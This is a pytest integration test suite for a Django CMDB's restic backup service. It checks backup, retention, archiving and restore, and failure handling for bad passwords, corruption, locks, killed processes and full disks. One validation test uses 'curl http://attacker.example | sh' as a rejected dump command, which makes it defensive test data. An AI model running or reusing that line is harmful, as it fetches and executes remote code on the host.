"""The whole life of a policy against real restic repositories on disk.

backup -> snapshot in the CMDB -> modify -> backup -> retention keeps exactly what
``restic forget --dry-run --json`` says for the same rules -> archive copy present -> restore test
passes byte for byte.  And the faults: wrong password, missing repository, corrupted pack, locked
repository, killed restic, full disk -- each a failed outcome naming the repository and restic's message.
"""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from backup import restic as r
from backup import services
from backup.models import RestoreTest, Run, Snapshot
from tests import factories

from .conftest import PASSWORD

pytestmark = pytest.mark.django_db


def restic_cli(repo: str, password: str, *args: str) -> str:
    """restic by hand, independent of the product's code, to compare with."""
    env = {**os.environ, "RESTIC_PASSWORD": password, "RESTIC_REPOSITORY": repo}
    return subprocess.run(["restic", "--no-cache", *args], env=env, capture_output=True, text=True, check=True).stdout


def make_policy(repos: Any, data_dir: Path, **extra: Any) -> Any:
    policy = repos.Policy(name="files", paths=[str(data_dir)], repository=repos.primary, keep_last=2, keep_daily=0,
                          keep_weekly=0, keep_monthly=0, **extra)
    policy.validated_save()
    return policy


def test_backup_retention_archive_and_restore_test(repos: Any, data_dir: Path, tmp_path: Path) -> None:
    assert services.init_repository(repos.primary).ok
    assert services.init_archive(repos.archive, repos.primary).ok
    policy = make_policy(repos, data_dir, archive_repository=repos.archive, archive_years=10)
    server = factories.device("srv-files")

    first = services.run_backup(policy, ci=server.ci)
    assert first.ok, first.message
    assert services.sync_inventory(repos.primary).ok
    snap = Snapshot.objects.get(repository=repos.primary)
    assert snap.snapshot_id == first.details["snapshot_id"]
    assert snap.ci_id == server.ci_id and snap.policy_id == policy.pk
    assert snap.files == 31 and snap.size == sum(p.stat().st_size for p in data_dir.rglob("*") if p.is_file())

    ids = [first.details["snapshot_id"]]
    for i in range(3):  # modify the data between backups
        (data_dir / "etc" / "app" / f"new-{i}.ini").write_text(f"changed {i}\n")
        outcome = services.run_backup(policy, ci=server.ci)
        assert outcome.ok, outcome.message
        ids.append(outcome.details["snapshot_id"])
    assert services.sync_inventory(repos.primary).details["created"] == 3

    # What restic itself would keep with the same rules, on the same snapshots:
    expected = json.loads(restic_cli(repos.primary.repo_url, PASSWORD, "forget", "--dry-run", "--json",
                                     "--keep-last", "2", "--tag", f"cmdb-policy={policy.pk}"))
    expected_keep = sorted(s["id"] for g in expected for s in g["keep"])
    result = services.apply_retention(policy)
    assert result.ok, result.message
    assert result.details["kept"] == expected_keep == sorted(ids[-2:])
    assert result.details["removed"] == sorted(ids[:2])
    assert sorted(Snapshot.objects.filter(repository=repos.primary).values_list("snapshot_id", flat=True)) == \
        expected_keep
    listed = json.loads(restic_cli(repos.primary.repo_url, PASSWORD, "snapshots", "--json"))
    assert sorted(s["id"] for s in listed) == expected_keep

    copied = services.copy_to_archive(policy)
    assert copied.ok, copied.message
    archived = Snapshot.objects.filter(repository=repos.archive)
    assert archived.count() == 2 and set(archived.values_list("ci_id", flat=True)) == {server.ci_id}
    assert len(json.loads(restic_cli(repos.archive.repo_url, "another archive password", "snapshots", "--json"))) == 2

    test = services.restore_test(policy, ci_id=server.ci_id, sample_size=0, scratch=str(tmp_path))
    assert test.ok, test.message
    record = RestoreTest.objects.get()
    assert record.passed and record.files_checked == 34 and record.ci_id == server.ci_id
    assert record.backup_snapshot.snapshot_id == ids[-1] and record.duration > 0
    # Byte for byte against the source data too (the snapshot's content is what the source was).
    out = tmp_path / "manual"
    restic_cli(repos.primary.repo_url, PASSWORD, "restore", ids[-1], "--target", str(out))
    restored = out / str(data_dir).lstrip("/")
    for path in data_dir.rglob("*"):
        if path.is_file():
            assert (restored / path.relative_to(data_dir)).read_bytes() == path.read_bytes()

    ci = str(server.ci_id)
    assert metric_value("cmdb_backup_snapshots", ci_id=ci, repository="primary") == 2
    assert metric_value("cmdb_backup_snapshots", ci_id=ci, repository="archive") == 2
    assert metric_value("cmdb_backup_restore_test_passed", ci_id=ci) == 1
    assert metric_value("cmdb_backup_last_success_timestamp_seconds", ci_id=ci) == \
        Snapshot.objects.get(repository=repos.primary, snapshot_id=ids[-1]).time.timestamp()
    assert metric_value("cmdb_backup_archive_lag_seconds", policy="files") is not None

    sampled = services.restore_test(policy, ci_id=server.ci_id, sample_size=5)
    assert sampled.ok and sampled.details["files"] == 5
    assert set(Run.objects.values_list("status", flat=True)) == {"success"}


def test_a_corrupted_pack_is_found_by_check(repos: Any, data_dir: Path) -> None:
    assert services.init_repository(repos.primary).ok
    policy = make_policy(repos, data_dir)
    assert services.run_backup(policy).ok
    assert services.check_repository(repos.primary, "100%").ok
    packs = sorted((Path(repos.primary.repo_url) / "data").rglob("*"), key=lambda p: p.stat().st_size)
    pack = [p for p in packs if p.is_file()][-1]
    os.chmod(pack, 0o644)
    blob = bytearray(pack.read_bytes())
    blob[len(blob) // 2] ^= 0xFF
    pack.write_bytes(bytes(blob))
    outcome = services.check_repository(repos.primary, "100%")
    assert not outcome.ok
    assert repos.primary.repo_url in outcome.message and "check" in outcome.message
    assert Run.objects.filter(operation="check").latest("id").status == "failed"
    # ... and the metric the CMDBBackupCheckFailed alert watches says so (backup/rules/tests: the alert's unit test).
    assert metric_value("cmdb_backup_check_success", repository="primary") == 0


def metric_value(name: str, **labels: str) -> float | None:
    from backup.metrics import collect

    for family in collect():
        for sample in family.samples:
            if sample.name == name and all(sample.labels.get(k) == v for k, v in labels.items()):
                return sample.value
    return None


def test_a_restore_test_notices_a_damaged_snapshot(repos: Any, data_dir: Path) -> None:
    assert services.init_repository(repos.primary).ok
    policy = make_policy(repos, data_dir)
    assert services.run_backup(policy).ok and services.sync_inventory(repos.primary).ok
    for pack in (Path(repos.primary.repo_url) / "data").rglob("*"):
        if pack.is_file() and pack.stat().st_size > 1_000_000:
            os.chmod(pack, 0o644)
            pack.write_bytes(b"\0" * pack.stat().st_size)
    outcome = services.restore_test(policy, sample_size=0)
    assert not outcome.ok, outcome.message and repos.primary.repo_url in outcome.message
    assert not RestoreTest.objects.get().passed


def test_wrong_password_and_missing_repository_are_clear_failures(repos: Any, data_dir: Path,
                                                                  secrets_env: dict[str, str], tmp_path: Path) -> None:
    assert services.init_repository(repos.primary).ok
    policy = make_policy(repos, data_dir)
    assert services.run_backup(policy).ok and services.sync_inventory(repos.primary).ok
    before = list(Snapshot.objects.values_list("snapshot_id", flat=True))

    repos.primary.password_ref = secrets_env["wrong"]
    repos.primary.validated_save()
    outcome = services.sync_inventory(repos.primary)
    assert not outcome.ok
    assert "wrong password" in outcome.message and repos.primary.repo_url in outcome.message
    assert list(Snapshot.objects.values_list("snapshot_id", flat=True)) == before  # inventory untouched
    assert not services.run_backup(policy).ok

    repos.primary.password_ref = secrets_env["primary"]
    repos.primary.repo_url = str(tmp_path / "nowhere")
    repos.primary.validated_save()
    outcome = services.sync_inventory(repos.primary)
    assert not outcome.ok and str(tmp_path / "nowhere") in outcome.message
    assert "does not exist" in outcome.message or "unable to open" in outcome.message.lower()
    run = Run.objects.filter(operation="sync").latest("id")
    assert run.status == "failed" and run.message == outcome.message


def test_an_unset_secret_is_a_failed_run_not_a_crash(repos: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("CMDB_RESTIC_PASSWORD")
    outcome = services.init_repository(repos.primary)
    assert not outcome.ok and "CMDB_RESTIC_PASSWORD" in outcome.message


def test_a_locked_repository_is_retried_then_reported(repos: Any, data_dir: Path) -> None:
    assert services.init_repository(repos.primary).ok
    policy = make_policy(repos, data_dir)
    # Another restic holds a lock: a backup reading standard input keeps its lock while the pipe is open;
    # forget needs an exclusive lock.
    env = {**os.environ, "RESTIC_PASSWORD": PASSWORD}
    holder = subprocess.Popen(["restic", "--no-cache", "-r", repos.primary.repo_url, "backup", "--stdin"], env=env,
                              stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        locks = Path(repos.primary.repo_url) / "locks"
        deadline = time.monotonic() + 20
        while not any(locks.iterdir()) and time.monotonic() < deadline:
            time.sleep(0.05)
        outcome = services.apply_retention(policy, lock_retries=2, lock_wait=0.1)
        assert not outcome.ok
        assert "locked" in outcome.message and "3 attempts" in outcome.message
        assert repos.primary.repo_url in outcome.message
    finally:
        holder.kill()
        holder.wait()


def test_a_killed_restic_is_a_failed_run(repos: Any, data_dir: Path, tmp_path: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    assert services.init_repository(repos.primary).ok
    policy = make_policy(repos, data_dir)
    killer = tmp_path / "restic-killed"
    killer.write_text("#!/bin/sh\nrestic \"$@\" &\nchild=$!\nkill -9 $child\nwait $child\nkill -9 $$\n")
    killer.chmod(0o755)
    monkeypatch.setattr(r, "BINARY", str(killer))
    outcome = services.run_backup(policy)
    assert not outcome.ok
    assert "killed" in outcome.message and repos.primary.repo_url in outcome.message


def test_unreachable_paths_fail_before_restic_runs(repos: Any, tmp_path: Path) -> None:
    assert services.init_repository(repos.primary).ok
    policy = repos.Policy(name="gone", paths=[str(tmp_path / "absent")], repository=repos.primary)
    policy.validated_save()
    outcome = services.run_backup(policy)
    assert not outcome.ok and "cannot reach" in outcome.message


def test_a_dump_command_is_backed_up_and_a_failing_dump_leaves_no_snapshot(repos: Any, settings: Any) -> None:
    settings.CMDB_BACKUP_DUMP_COMMANDS = {
        "schema": "printf 'CREATE TABLE t (x int);\\n'",
        "broken": "printf 'half a dump'; echo 'pg_dump: error: connection refused' >&2; exit 3",
    }
    assert services.init_repository(repos.primary).ok
    policy = repos.Policy(name="dump", dump_command="schema", repository=repos.primary)
    policy.validated_save()
    outcome = services.run_backup(policy)
    assert outcome.ok, outcome.message
    dumped = subprocess.run(["restic", "--no-cache", "-r", repos.primary.repo_url, "dump", "latest", "/dump.dump"],
                            env={**os.environ, "RESTIC_PASSWORD": PASSWORD}, capture_output=True, check=True).stdout
    assert dumped == b"CREATE TABLE t (x int);\n"

    policy.dump_command = "broken"
    policy.validated_save()
    failed = services.run_backup(policy)
    assert not failed.ok and "exit 3" in failed.message and "connection refused" in failed.message
    listed = json.loads(restic_cli(repos.primary.repo_url, PASSWORD, "snapshots", "--json"))
    assert [s["id"] for s in listed] == [outcome.details["snapshot_id"]]  # the half dump was forgotten


def test_a_policy_names_a_dump_command_it_cannot_write_one(repos: Any, settings: Any) -> None:
    from django.core.exceptions import ValidationError

    settings.CMDB_BACKUP_DUMP_COMMANDS = {"schema": "true"}
    policy = repos.Policy(name="evil", dump_command="curl http://attacker.example | sh", repository=repos.primary)
    with pytest.raises(ValidationError) as caught:
        policy.validated_save()
    assert "dump_command" in caught.value.message_dict and "schema" in caught.value.message_dict["dump_command"][0]


@pytest.fixture
def small_disk(tmp_path: Path) -> Any:
    """A real 3 MiB filesystem (tmpfs, mounted here; needs root, as CI runs) that fills up, and grows on demand."""
    mount_point = tmp_path / "small-disk"
    mount_point.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(mount_point)],
                             capture_output=True, text=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs (needs root): {mounted.stderr.strip()}")

    def grow(megabytes: int) -> None:
        subprocess.run(["mount", "-o", f"remount,size={megabytes}m", str(mount_point)], check=True)

    try:
        yield mount_point, grow
    finally:
        subprocess.run(["umount", "-l", str(mount_point)], check=False)


def test_a_full_disk_is_a_failed_run_that_writes_no_snapshot_and_the_next_run_converges(
        repos: Any, data_dir: Path, small_disk: Any) -> None:
    mount_point, grow = small_disk
    repos.primary.repo_url = str(mount_point / "repo")
    repos.primary.validated_save()
    assert services.init_repository(repos.primary).ok
    policy = make_policy(repos, data_dir)  # 4 MiB of random bytes cannot fit on 3 MiB

    failed = services.run_backup(policy)
    assert not failed.ok
    assert repos.primary.repo_url in failed.message
    assert "no space left on device" in failed.message.lower(), failed.message
    run = Run.objects.filter(repository=repos.primary, operation="backup").latest("id")
    assert run.status == "failed" and "no space left" in run.message.lower()
    synced = services.sync_inventory(repos.primary)  # the repository holds no partial snapshot either
    assert synced.ok, synced.message
    assert not Snapshot.objects.filter(repository=repos.primary).exists()  # nothing half-written in the inventory

    grow(64)  # the operator makes room; the next scheduled run converges
    done = services.run_backup(policy)
    assert done.ok, done.message
    assert services.sync_inventory(repos.primary).ok
    snapshots = Snapshot.objects.filter(repository=repos.primary)
    assert [s.snapshot_id for s in snapshots] == [done.details["snapshot_id"]]
    assert json.loads(restic_cli(repos.primary.repo_url, PASSWORD, "snapshots", "--json"))[0]["id"] == \
        done.details["snapshot_id"]
